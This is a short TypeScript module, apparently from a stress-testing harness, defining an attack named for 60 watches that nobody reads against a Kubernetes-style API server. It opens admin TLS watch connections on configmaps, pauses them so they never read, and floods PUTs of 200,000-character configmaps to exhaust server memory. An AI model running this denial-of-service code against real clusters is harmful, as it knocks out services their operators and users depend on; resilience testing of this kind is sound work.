import { type Attack, configMap, configMaps, flood } from "../attack.ts";
import { tlsConnection } from "../target.ts";

const watchersMax = 60;
const text = "x".repeat(200_000);

/** Watches that nobody reads, while much changes. */
export const watchersThatNeverRead: Attack = {
  name: `${watchersMax} watches that nobody reads`,
  who: "admin",
  async run(attacker) {
    const { target } = attacker;
    const sockets = Array.from({ length: watchersMax }, () => {
      const socket = tlsConnection(target, "admin");
      socket.once("secureConnect", () => {
        socket.write(`GET ${configMaps}?watch=1 HTTP/1.1\r\nHost: x\r\n\r\n`);
        socket.pause();
      });
      return socket;
    });
    await flood(attacker, {
      who: "admin",
      width: 2,
      ask: (index) => ({
        method: "PUT",
        path: `${configMaps}/large`,
        body: configMap("large", { text, index: String(index) }),
      }),
    });
    for (const socket of sockets) socket.destroy();
  },
};
